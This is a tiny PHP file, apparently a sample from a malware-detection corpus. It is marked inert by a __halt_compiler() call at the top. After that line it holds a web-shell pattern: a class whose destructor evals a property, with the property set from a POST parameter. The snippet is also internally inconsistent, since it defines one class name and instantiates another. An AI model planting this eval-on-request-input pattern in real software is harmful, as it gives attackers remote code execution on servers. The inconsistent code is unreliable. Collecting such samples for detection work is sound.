<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
class eneok { public $c; function __destruct() { @eval($this->c); } }
$o = new stdClass();
$x = new jnzcv();
$x->c = $_POST['fht'];
